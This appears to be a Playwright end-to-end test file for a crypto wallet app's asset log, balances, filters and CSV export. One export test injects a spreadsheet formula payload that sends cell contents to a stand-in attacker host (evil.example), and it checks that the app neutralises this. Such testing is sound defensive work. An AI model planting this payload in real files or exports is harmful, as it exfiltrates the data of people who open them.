import { readFile } from 'node:fs/promises'
import type { DataOf } from '@lode/wire'
import type { Locator, Page } from '@playwright/test'
import { patchAnswer, registeredEarlier } from '../browser/api-answers.ts'
import { switchAppearance } from '../browser/appearance.ts'
import { copiedText, limitClipboard } from '../browser/clipboard.ts'
import { returnToForeground } from '../browser/foreground.ts'
import { fullHistory, postHistory } from '../browser/post-history.ts'
import { mockIncomingDeposit, mockMissingPrices, mockOldPrices } from '../browser/screens.ts'
import { countDownloads, mockShareSheet, readSharedFiles } from '../browser/share-files.ts'
import { signInPage } from '../browser/sign-in.ts'
import { expect, test } from '../browser/test.ts'
import { visibleMain } from '../browser/views.ts'

const LOG = /\/api\/wallet\/log/
const ASSETS = /\/api\/wallet\/assets/

type LogLine = DataOf<'wallet/log'>['lines'][number]

const makeDeposits = (count: number) =>
  Array.from({ length: count }, (_, place) => ({ received: `${place + 1}`, asset: 'USDT' as const }))

/** The visible view. Hidden views are kept and have a `main` too. */
const linesOf = (page: Page): Locator => visibleMain(page).getByRole('listitem')
const amountsOf = async (page: Page) =>
  (await linesOf(page).allInnerTexts()).map((text) => /[+−][\d,.]+/.exec(text)?.[0] ?? '')

const scrollToEnd = (page: Page) => visibleMain(page).evaluate((main) => main.scrollTo(0, main.scrollHeight))

/** Changes the lines in every answer of the log. */
const changeLines = (page: Page, change: (line: LogLine, place: number) => LogLine) =>
  page.route(LOG, async (route) => {
    const response = await route.fetch()
    const body = (await response.json()) as { data: DataOf<'wallet/log'> }
    await route.fulfill({ json: { ...body, data: { ...body.data, lines: body.data.lines.map(change) } } })
  })

// The app refreshes its data by itself, and a request may be open when the test ends.
test.afterEach(({ page }) => page.unrouteAll({ behavior: 'ignoreErrors' }))

test('a line of the log opens, with its hash, the explorer and the balance after it', async ({
  page,
  stack,
  register,
  enter,
}) => {
  const member = await register()
  await postHistory(stack, member, [
    { received: '100', asset: 'USDT' },
    { received: '20.5', asset: 'USDT' },
    { sent: '30', fee: '1' },
  ])
  await enter(member)
  await patchAnswer(page, 'pool/chain', (data) => ({ ...data, explorerUrl: 'https://explorer.example' }))
  await page.goto('/wallet/detail?symbol=USDT')
  // The whole line can be pressed, not only its name.
  await linesOf(page)
    .nth(1)
    .click({ position: { x: 8, y: 8 } })
  const deposit = page.getByRole('dialog', { name: 'Transfer in' })
  await expect(deposit).toContainText('+20.50 USDT')
  await expect(deposit).toContainText('Available afterwards120.50 USDT')
  await expect(deposit).toContainText(/0x[0-9a-f]{64}/)
  await expect(deposit.getByRole('link', { name: /on the explorer$/ })).toHaveAttribute(
    'href',
    /^https:\/\/explorer\.example\/tx\/0x[0-9a-f]{64}$/,
  )
  await page.keyboard.press('Escape')
  await expect(deposit).toHaveCount(0)

  const out = visibleMain(page).getByRole('listitem').first().getByRole('button', { name: 'Transfer out' })
  await out.focus()
  await page.keyboard.press('Enter')
  const transfer = page.getByRole('dialog', { name: 'Transfer out' })
  await expect(transfer).toContainText('Fee1.00 USDT')
  await expect(transfer).toContainText('Available afterwards90.50 USDT')
  await expect(transfer).toContainText('Not sent yet')
})

test('the sheet of a line follows the line, and closes when it leads to the transfer', async ({
  page,
  stack,
  register,
  enter,
}) => {
  const member = await register()
  await postHistory(stack, member, [
    { received: '100', asset: 'USDT' },
    { sent: '30', fee: '1' },
  ])
  await enter(member)
  let status: LogLine['status'] = 'confirming'
  const id = 'transferOut:00000000-0000-4000-8000-000000000000'
  await changeLines(page, (line) => (line.type === 'transferOut' ? { ...line, id, status } : line))
  await page.goto('/wallet/detail?symbol=USDT')
  await linesOf(page).first().getByRole('button', { name: 'Transfer out' }).click()
  const sheet = page.getByRole('dialog', { name: 'Transfer out' })
  await expect(sheet).toContainText('StatusConfirming')
  await expect(sheet).toContainText('Not sent yet')
  status = 'confirmed'
  // A log with a line that is confirming is read again every five seconds.
  await expect(sheet).toContainText('StatusConfirmed', { timeout: 15_000 })
  await sheet.getByRole('link', { name: 'See the transfer' }).click()
  await expect(page).toHaveURL(`/setting/transfer?id=00000000-0000-4000-8000-000000000000`)
  await expect(sheet).toBeHidden()
})

test('the log stays if the sheet of a line cannot be loaded', async ({ page, stack, register, enter, messages }) => {
  const member = await register()
  await postHistory(stack, member, [{ received: '100', asset: 'USDT' }])
  await enter(member)
  await page.goto('/wallet/detail?symbol=USDT')
  await expect(linesOf(page)).toHaveCount(1)
  await page.context().setOffline(true)
  const message = 'This could not be loaded. Check your connection, then reload the page.'
  const said: string[] = []
  // A second press says it again.
  for (let press = 0; press < 2; press += 1) {
    await linesOf(page).first().getByRole('button', { name: 'Transfer in' }).click()
    said.push(message)
    await expect.poll(() => messages).toEqual(said)
    await expect(page.getByText(message)).toBeHidden()
  }
  await expect(linesOf(page)).toHaveCount(1)
})

test('the log can be limited to a month', async ({ page, stack, register, enter }) => {
  const member = await register()
  await postHistory(stack, member, [{ received: '100', asset: 'USDT' }])
  await enter(member)
  await page.goto('/wallet/detail?symbol=USDT')
  await expect(linesOf(page)).toHaveCount(1)
  const months = page.getByRole('combobox', { name: 'Days' }).getByRole('option', { name: /20\d\d$/ })
  await expect(months, 'the month of the registration and no earlier one').toHaveCount(1)
  await patchAnswer(page, 'account/profile', registeredEarlier)
  await page.reload()
  await expect.poll(() => months.count()).toBeGreaterThan(1)
  await page.getByRole('combobox', { name: 'Days' }).selectOption({ index: 2 })
  await expect(visibleMain(page)).toContainText('No entry matches these filters.')
  await page.getByRole('combobox', { name: 'Days' }).selectOption({ index: 1 })
  await expect(linesOf(page)).toHaveCount(1)
  await expect(visibleMain(page)).toContainText('UTC days, by the time at which an entry began.')
  await page.getByRole('combobox', { name: 'Days' }).selectOption('Other days…')
  await expect(visibleMain(page)).toContainText('Choose both days.')
  await expect(linesOf(page)).toHaveCount(0)
  await page.getByRole('combobox', { name: 'Days' }).selectOption({ index: 0 })
  await expect(linesOf(page)).toHaveCount(1)
})

test.describe('the wallet', () => {
  test('shows each asset with its frozen part and its value, and the total', async ({
    page,
    stack,
    register,
    enter,
  }) => {
    const member = await register()
    await postHistory(stack, member, fullHistory)
    await enter(member)
    await page.goto('/home')
    await expect(page.getByRole('link', { name: /Total asset value/ })).toContainText(/1,\d{3}\.\d{2} USDT/)
    await page.getByRole('navigation').getByRole('link', { name: 'Wallet' }).click()
    await expect(page).toHaveURL('/wallet')

    const usdt = page.getByRole('link', { name: /^USDT/ })
    await expect(usdt).toContainText('1,210.50')
    await expect(usdt).toContainText('Total ≈ 1,330.50 USDT')
    await expect(page.getByRole('link', { name: /^BTN/ })).toContainText('132,400.75')
    await expect(page.getByRole('link', { name: /^BTC/ })).toContainText('0.00418721')

    const frozen = page.getByRole('button', { name: 'Frozen 120.00' })
    await expect(visibleMain(page).getByText('On its way out')).toBeHidden()
    await frozen.click()
    await expect(visibleMain(page).getByText('On its way out')).toBeVisible()
    await expect(visibleMain(page).getByText('Reserved for orders')).toBeVisible()
    await expect(visibleMain(page).getByText('Pledged', { exact: true })).toBeVisible()
    await expect(visibleMain(page)).toContainText('Price feed')
  })

  test('says which price is missing, and what the total leaves out', async ({ page, stack, register, enter }) => {
    const member = await register()
    await postHistory(stack, member, fullHistory)
    await enter(member)
    await mockMissingPrices(page)
    await page.goto('/wallet')
    await expect(visibleMain(page)).toContainText('1,330.50 USDT')
    await expect(visibleMain(page)).toContainText('Excludes BTN, BTC (no price)')
    await expect(page.getByRole('link', { name: /^BTC/ })).toContainText('Price unavailable')
  })

  test('shows the age of prices older than a day wherever a value is shown, in each language', async ({
    page,
    stack,
    register,
    enter,
  }) => {
    const member = await register()
    await postHistory(stack, member, fullHistory)
    await enter(member)
    await page.goto('/home')
    const total = page.getByRole('link', { name: /Total asset value/ })
    await expect(total).toContainText(/1,\d{3}\.\d{2} USDT/)
    await expect(total).not.toContainText('old')

    await mockOldPrices(page, 4.2)
    await page.reload()
    await expect(total).toContainText('Prices are 4 days old.')
    for (const path of ['/wallet', '/wallet/detail?symbol=BTC', '/wallet/statement']) {
      await page.goto(path)
      await expect(visibleMain(page).getByText('Prices are 4 days old.')).toBeVisible()
    }
    await page.goto('/wallet/detail?symbol=USDT')
    await expect(visibleMain(page)).toContainText('1,210.50')
    await expect(visibleMain(page)).not.toContainText('Prices are')

    await page.goto('/wallet')
    await switchAppearance(page, { theme: 'paper', language: 'zh_tw' })
    await expect(visibleMain(page)).toContainText('價格已超過 4 天未更新。')
    await switchAppearance(page, { theme: 'paper', language: 'zh_cn' })
    await expect(visibleMain(page)).toContainText('价格已超过 4 天未更新。')
  })

  test('shows why it cannot be loaded, and loads on retry', async ({ page, register, enter }) => {
    await enter(await register())
    await page.route(ASSETS, (route) =>
      route.fulfill({ status: 403, json: { code: 403, message: '', data: null, reason: 'account-mismatch' } }),
    )
    await page.goto('/wallet')
    await expect(page.getByRole('heading', { name: 'Your assets could not be loaded' })).toBeVisible()
    await page.unrouteAll({ behavior: 'wait' })
    await page.getByRole('button', { name: 'Try again' }).click()
    await expect(page.getByRole('link', { name: /^USDT/ })).toContainText('Value ≈ 0.00 USDT')
  })

  test('keeps its layout while loading', async ({ page, register, enter }) => {
    await enter(await register())
    const { promise: answered, resolve: answer } = Promise.withResolvers<void>()
    await page.route(ASSETS, async (route) => {
      await answered
      await route.continue()
    })
    await page.goto('/wallet')
    const card = page.getByRole('link', { name: /^USDT/ })
    await expect(card).toBeVisible()
    await expect(visibleMain(page).getByText('Loading...')).toBeAttached()
    const place = async () => Math.round((await card.boundingBox())?.y ?? 0)
    const before = await place()
    answer()
    await expect(card).toContainText('Value ≈ 0.00 USDT')
    expect(await place()).toBe(before)
  })

  test('says how old it is if it cannot be refreshed, without a toast', async ({ page, register, enter, toasts }) => {
    await enter(await register())
    await page.clock.install()
    await page.goto('/wallet')
    await expect(page.getByRole('link', { name: /^USDT/ })).toContainText('Value ≈ 0.00 USDT')
    await page.route(ASSETS, (route) => route.fulfill({ status: 500, json: {} }))
    await returnToForeground(page)
    await expect(visibleMain(page)).toContainText('Could not be refreshed. Shown as of')
    expect(toasts).toEqual([])
  })

  test('refreshes every 30 seconds, and every 5 while a deposit is confirming', async ({ page, register, enter }) => {
    await enter(await register())
    await page.clock.install()
    let asked = 0
    page.on('request', (request) => {
      if (ASSETS.test(request.url())) asked += 1
    })
    await page.goto('/wallet')
    await expect(page.getByRole('link', { name: /^USDT/ })).toContainText('Value ≈ 0.00 USDT')
    await page.clock.runFor(29_000)
    expect(asked).toBe(1)
    await mockIncomingDeposit(page)
    await page.clock.runFor(2_000)
    await expect.poll(() => asked).toBe(2)
    await expect(visibleMain(page)).toContainText('+25,000.00')
    await page.clock.runFor(6_000)
    await expect.poll(() => asked).toBe(3)
  })

  test('is the first page of an exit session, and says why', async ({ page, register, disable, giveWallet }) => {
    const member = await register()
    await giveWallet({ account: member.account })
    await disable(member)
    await page.goto('/login')
    await signInPage(page)
      .wallet(/Plain Wallet/)
      .click()
    await page.getByRole('button', { name: 'Take your assets out' }).click()
    await expect(page).toHaveURL('/wallet')
    await expect(page.getByText('This sign-in is only for taking your assets out.')).toBeVisible()
    await expect(page.getByRole('navigation').getByRole('link')).toHaveText(['Wallet', 'Promote', 'Pledge'])
    await page.reload()
    await expect(page.getByText('This sign-in is only for taking your assets out.')).toBeVisible()
    await page.goto('/home')
    await expect(page).toHaveURL('/wallet')
    await page.getByRole('link', { name: /^USDT/ }).click()
    await expect(page.getByRole('heading', { name: 'Asset log' })).toBeVisible()
    await expect(page.getByRole('button', { name: 'Deposit' })).toHaveCount(0)
  })
})

test.describe('the asset log', () => {
  test('is loaded to its end as the member scrolls, each line once', async ({ page, stack, register, enter }) => {
    const member = await register()
    await postHistory(stack, member, makeDeposits(65))
    await enter(member)
    await page.goto('/wallet/detail?symbol=USDT')
    await expect(linesOf(page).first()).toContainText('+65.00')
    await expect(async () => {
      await scrollToEnd(page)
      await expect(page.getByText('No more data available')).toBeVisible({ timeout: 500 })
    }).toPass()
    expect(await amountsOf(page)).toEqual(Array.from({ length: 65 }, (_, place) => `+${65 - place}.00`))
  })

  test('shows an error if the next page fails, and loads it only on retry', async ({
    page,
    stack,
    register,
    enter,
  }) => {
    const member = await register()
    await postHistory(stack, member, makeDeposits(25))
    await enter(member)
    let asked = 0
    await page.route(/wallet\/log.*cursor=/, (route) => {
      asked += 1
      return route.fulfill({ status: 500, json: {} })
    })
    await page.goto('/wallet/detail?symbol=USDT')
    await expect(linesOf(page).first()).toContainText('+25.00')
    await scrollToEnd(page)
    await expect(page.getByText('Failed loading more data')).toBeVisible()
    expect(asked).toBe(1)
    await page.unrouteAll({ behavior: 'wait' })
    await page.getByRole('button', { name: 'Try again' }).click()
    await expect(linesOf(page)).toHaveCount(25)
    await expect(page.getByText('No more data available')).toBeVisible()
  })

  test('can also be loaded with a button', async ({ page, stack, register, enter }) => {
    const member = await register()
    await postHistory(stack, member, makeDeposits(25))
    await enter(member)
    // Some in-app browsers have IntersectionObserver but never call back.
    await page.addInitScript(() => {
      window.IntersectionObserver = class {
        observe() {}
        disconnect() {}
      } as unknown as typeof IntersectionObserver
    })
    await page.goto('/wallet/detail?symbol=USDT')
    await page.getByRole('button', { name: 'Load more data' }).click()
    await expect(linesOf(page)).toHaveCount(25)
  })

  test('can be filtered by type and status, and keeps its filters while another page is open', async ({
    page,
    stack,
    register,
    enter,
  }) => {
    const member = await register()
    await postHistory(stack, member, fullHistory)
    await enter(member)
    await page.goto('/wallet')
    await page.getByRole('link', { name: /^USDT/ }).click()
    await expect(linesOf(page)).toHaveCount(4)
    await page.getByLabel('Type').selectOption('Transfer out')
    await expect(linesOf(page)).toHaveCount(2)
    expect(await amountsOf(page)).toEqual(['−119.00', '−249.00'])
    await page.getByLabel('Status').selectOption('Canceled')
    await expect(linesOf(page)).toHaveCount(1)
    await expect(linesOf(page)).toContainText('Canceled')
    await expect(linesOf(page)).toContainText('Fee 1.00 USDT')

    await page.getByRole('button', { name: 'Back' }).click()
    await expect(page).toHaveURL('/wallet')
    await page.getByRole('link', { name: /^USDT/ }).click()
    await expect(page.getByLabel('Status')).toHaveValue('canceled')
    await expect(linesOf(page)).toHaveCount(1)
    await page.getByLabel('Type').selectOption('Pledge created')
    await expect(page.getByRole('heading', { name: 'No data yet' })).toBeVisible()
    await expect(visibleMain(page)).toContainText('No entry matches these filters.')
  })

  test('is empty for an asset without entries, and does not exist for an unknown symbol', async ({
    page,
    register,
    enter,
  }) => {
    await enter(await register())
    await page.goto('/wallet/detail?symbol=BTC')
    await expect(page.getByRole('heading', { name: 'BTC', exact: true })).toBeVisible()
    await expect(page.getByRole('heading', { name: 'No data yet' })).toBeVisible()
    await page.goto('/wallet/detail?symbol=DOGE')
    await expect(page.getByRole('heading', { name: 'Asset not found' })).toBeVisible()
    await page.getByRole('button', { name: 'Go to Wallet' }).click()
    await expect(page).toHaveURL('/wallet')
  })

  test('shows a seen deposit with its waiting time, and the same line once it is final', async ({
    page,
    stack,
    register,
    enter,
  }) => {
    const member = await register()
    await postHistory(stack, member, [{ received: '25000', asset: 'BTN' }])
    await enter(member)
    await page.clock.install()
    const at = new Date(Date.now() - 190_000).toISOString()
    await changeLines(page, (line) => ({ ...line, at, status: 'confirming' }))
    await page.goto('/wallet/detail?symbol=BTN')
    const line = linesOf(page)
    await expect(line).toContainText('Confirming')
    await expect(line).toContainText('Detected; usually final in about')
    await expect(line).toContainText('3 min so far.')
    await page.clock.runFor(60_000)
    await expect(line).toContainText('4 min so far.')

    await page.unrouteAll({ behavior: 'wait' })
    await page.clock.runFor(6_000)
    await expect(line).toContainText('Confirmed')
    await expect(linesOf(page)).toHaveCount(1)
    expect(await amountsOf(page)).toEqual(['+25,000.00'])
  })

  test('links each transaction to the explorer, or lets its hash be copied', async ({
    page,
    context,
    stack,
    register,
    enter,
    toasts,
  }) => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write'])
    const member = await register()
    await postHistory(stack, member, [{ received: '5', asset: 'USDT' }])
    await enter(member)
    await page.goto('/wallet/detail?symbol=USDT')
    await page.getByRole('button', { name: 'Copy transaction hash' }).click()
    await expect.poll(() => toasts).toEqual(['Copy successful'])
    const hash = await page.evaluate(() => navigator.clipboard.readText())
    expect(hash).toMatch(/^0x[0-9a-f]{64}$/)

    await page.route(/\/api\/pool\/chain/, async (route) => {
      const response = await route.fetch()
      const body = (await response.json()) as { data: object }
      await route.fulfill({ json: { ...body, data: { ...body.data, explorerUrl: 'https://explorer.example/' } } })
    })
    await page.reload()
    const link = page.getByRole('link', { name: /on the explorer/ })
    await expect(link).toHaveAttribute('href', `https://explorer.example/tx/${hash}`)
    await expect(link).toHaveAttribute('rel', 'noreferrer')
  })

  test('shows an unknown type as undefined', async ({ page, stack, register, enter }) => {
    const member = await register()
    await postHistory(stack, member, [{ received: '5', asset: 'USDT' }])
    await enter(member)
    await changeLines(page, (line) => ({ ...line, type: 'fromTheFuture' }))
    await page.goto('/wallet/detail?symbol=USDT')
    await expect(linesOf(page)).toContainText('Undefined')
  })

  test('refreshes by pulling down or with its button', async ({ page, stack, register, enter }) => {
    const member = await register()
    await postHistory(stack, member, makeDeposits(1))
    await enter(member)
    await page.goto('/wallet/detail?symbol=USDT')
    await expect(linesOf(page)).toHaveCount(1)
    const pull = async (distance: number) => {
      const main = visibleMain(page)
      const touch = (type: string, y: number) =>
        main.evaluate(
          (target, [name, clientY]) => {
            const touches = name === 'touchend' ? [] : [new Touch({ identifier: 1, target, clientX: 100, clientY })]
            target.dispatchEvent(new TouchEvent(name, { touches, bubbles: true, cancelable: true }))
          },
          [type, y] as const,
        )
      await touch('touchstart', 200)
      await touch('touchmove', 200 + distance / 2)
      await touch('touchmove', 200 + distance)
      await expect(main.getByText(distance > 112 ? 'Release to refresh' : 'Pull down to refresh')).toBeVisible()
      await touch('touchend', 0)
    }
    await postHistory(stack, member, [{ received: '2', asset: 'USDT' }])
    await pull(60)
    await expect(linesOf(page), 'not far enough').toHaveCount(1)
    await pull(160)
    await expect(linesOf(page)).toHaveCount(2)
    await expect(visibleMain(page)).toContainText('3.00 USDT')

    await postHistory(stack, member, [{ received: '3', asset: 'USDT' }])
    await page.getByRole('button', { name: 'Refresh' }).click()
    await expect(linesOf(page)).toHaveCount(3)
  })

  test('loads when the network is back', async ({ page, context, stack, register, enter }) => {
    const member = await register()
    await postHistory(stack, member, fullHistory)
    await enter(member)
    await page.goto('/wallet')
    await expect(page.getByRole('link', { name: /^USDT/ })).toContainText('1,210.50')
    await context.setOffline(true)
    await page.getByRole('link', { name: /^USDT/ }).click()
    await expect(page.getByRole('heading', { name: 'You are offline' })).toBeVisible()
    await expect(visibleMain(page)).toContainText('The log will load when the network is back.')
    await expect(visibleMain(page), 'what is known stays').toContainText('1,210.50')
    await context.setOffline(false)
    await expect(linesOf(page)).toHaveCount(4)
  })

  test('shows why it cannot be loaded, and loads on retry', async ({ page, stack, register, enter }) => {
    const member = await register()
    await postHistory(stack, member, fullHistory)
    await enter(member)
    await page.route(LOG, (route) =>
      route.fulfill({ status: 429, json: { code: 429, message: '', data: null, reason: 'rate-limited' } }),
    )
    await page.goto('/wallet/detail?symbol=USDT')
    await expect(page.getByRole('heading', { name: 'The log could not be loaded' })).toBeVisible()
    await page.unrouteAll({ behavior: 'wait' })
    await page.getByRole('button', { name: 'Try again' }).click()
    await expect(linesOf(page)).toHaveCount(4)
  })

  const words = [
    ['en', 'No more data available', 'No data yet', 'Transfer in'],
    ['zh_tw', '沒有更多資料了', '暫無資料', '轉入'],
    ['zh_cn', '没有更多数据了', '暂无数据', '转入'],
  ] as const
  for (const [lang, end, empty, type] of words) {
    test(`is translated into ${lang}`, async ({ page, stack, register, enter }) => {
      const member = await register({ lang })
      await postHistory(stack, member, [{ received: '5', asset: 'USDT' }])
      await enter(member)
      await page.goto('/wallet/detail?symbol=USDT')
      await expect(linesOf(page)).toContainText(type)
      await expect(page.getByText(end)).toBeVisible()
      await page.goto('/wallet/detail?symbol=BTN')
      await expect(page.getByRole('heading', { name: empty })).toBeVisible()
    })
  }
})

test.describe('the log as a file', () => {
  const save = (page: Page) => page.getByRole('button', { name: 'Save log as CSV' })

  test('has every line of the filter, and no cell that a spreadsheet would execute', async ({
    page,
    stack,
    register,
    enter,
  }) => {
    const member = await register()
    await postHistory(stack, member, [...makeDeposits(230), { sent: '10', fee: '1' }])
    await enter(member)
    const hostile = '=HYPERLINK("http://evil.example?"&A1,"Click")'
    await changeLines(page, (line) => (line.amount === '230' ? { ...line, id: hostile } : line))
    await page.goto('/wallet/detail?symbol=USDT')
    await page.getByLabel('Type').selectOption('Transfer in')
    await expect(linesOf(page).first()).toContainText('+230.00')
    const [download] = await Promise.all([page.waitForEvent('download'), save(page).click()])
    expect(download.suggestedFilename()).toMatch(/^lode-USDT-\d{4}-\d\d-\d\d\.csv$/)
    await expect(page.getByText('230 lines. Your browser was asked to download it.')).toBeVisible()
    await expect(page.getByText('Saved')).toHaveCount(0)

    const text = await readFile(await download.path(), 'utf8')
    expect(text.startsWith('\uFEFFTime (UTC),Type,Status,Amount,Fee,Symbol,')).toBe(true)
    const rows = text.trimEnd().split('\r\n').slice(1)
    expect(rows.map((row) => row.split(',')[3])).toEqual(Array.from({ length: 230 }, (_, place) => `${230 - place}`))
    expect(rows[0]).toContain(`"'=HYPERLINK(""http://evil.example?""&A1,""Click"")"`)
    expect(text).not.toMatch(/(^|,|\n)"?[=+@]/m)
  })

  test('is shown as text to copy if the download fails', async ({ page, context, stack, register, enter, toasts }) => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write'])
    const member = await register()
    await postHistory(stack, member, makeDeposits(3))
    await enter(member)
    await page.goto('/wallet/detail?symbol=USDT')
    await expect(linesOf(page)).toHaveCount(3)
    const [download] = await Promise.all([page.waitForEvent('download'), save(page).click()])
    await page.getByRole('button', { name: 'Show it here' }).click()
    const sheet = page.getByRole('dialog', { name: /^lode-USDT-.*\.csv$/ })
    const text = (await readFile(await download.path(), 'utf8')).replace('\uFEFF', '').replaceAll('\r\n', '\n')
    await expect(sheet.getByRole('textbox')).toHaveValue(text)
    await sheet.getByRole('button', { name: 'Copy', exact: true }).click()
    await expect.poll(() => toasts).toEqual(['Copy successful'])
    expect(await copiedText(page, context)).toContain('Transfer in,')
  })

  test('shown as text is selected for copying by hand if copying fails', async ({ page, stack, register, enter }) => {
    await limitClipboard(page, { api: 'denied', execCommand: 'fails' })
    const member = await register()
    await postHistory(stack, member, makeDeposits(3))
    await enter(member)
    await page.goto('/wallet/detail?symbol=USDT')
    await expect(linesOf(page)).toHaveCount(3)
    await save(page).click()
    await page.getByRole('button', { name: 'Show it here' }).click()
    const sheet = page.getByRole('dialog', { name: /^lode-USDT-.*\.csv$/ })
    await sheet.getByRole('button', { name: 'Copy', exact: true }).click()
    await expect(sheet.getByRole('status')).toContainText('The text is selected')
    const field = sheet.getByRole('textbox')
    await expect(field).toBeFocused()
    const length = await field.evaluate((one: HTMLTextAreaElement) => one.selectionEnd - one.selectionStart)
    expect(length).toBe((await field.inputValue()).length)
  })

  test('opens the share sheet of a phone; if that is closed, the app does not say that the file was saved', async ({
    page,
    stack,
    register,
    enter,
  }) => {
    await mockShareSheet(page, 'put away')
    const member = await register()
    await postHistory(stack, member, makeDeposits(3))
    await enter(member)
    await page.goto('/wallet/detail?symbol=USDT')
    await expect(linesOf(page)).toHaveCount(3)
    const downloads = countDownloads(page)
    await save(page).click()
    await expect
      .poll(() => readSharedFiles(page))
      .toMatchObject([{ name: expect.stringMatching(/\.csv$/), type: 'text/csv' }])
    await expect(save(page)).toBeEnabled()
    await expect(page.getByText(/downloading|lines\./i)).toHaveCount(0)
    expect(downloads()).toBe(0)
  })

  test('shows outgoing amounts as negative numbers', async ({ page, stack, register, enter }) => {
    const member = await register()
    await postHistory(stack, member, fullHistory)
    await enter(member)
    await page.goto('/wallet/detail?symbol=USDT')
    await expect(linesOf(page)).toHaveCount(4)
    const [download] = await Promise.all([page.waitForEvent('download'), save(page).click()])
    const rows = (await readFile(await download.path(), 'utf8')).split('\r\n')
    expect(rows[1]).toMatch(/,Transfer out,Confirming,-119,1,USDT,,,/)
  })

  test('shows its progress, and can be canceled', async ({ page, stack, register, enter }) => {
    const member = await register()
    await postHistory(stack, member, makeDeposits(120))
    await enter(member)
    await page.goto('/wallet/detail?symbol=USDT')
    await expect(linesOf(page).first()).toContainText('+120.00')
    await page.route(/limit=100.*cursor=|cursor=.*limit=100/, () => new Promise(() => {}))
    let downloads = 0
    page.on('download', () => {
      downloads += 1
    })
    await save(page).click()
    await expect(page.getByText('Reading the log: 100 lines')).toBeVisible()
    await page.getByRole('button', { name: 'Cancel' }).click()
    await expect(page.getByText('Reading the log')).toHaveCount(0)
    await expect(save(page)).toBeEnabled()
    expect(downloads).toBe(0)
  })

  test('shows why it cannot be made', async ({ page, stack, register, enter }) => {
    const member = await register()
    await postHistory(stack, member, makeDeposits(2))
    await enter(member)
    await page.goto('/wallet/detail?symbol=USDT')
    await expect(linesOf(page)).toHaveCount(2)
    await page.route(/limit=100/, (route) => route.fulfill({ status: 500, json: {} }))
    await save(page).click()
    await expect(page.getByText('The file could not be made: Internal server error')).toBeVisible()
  })
})
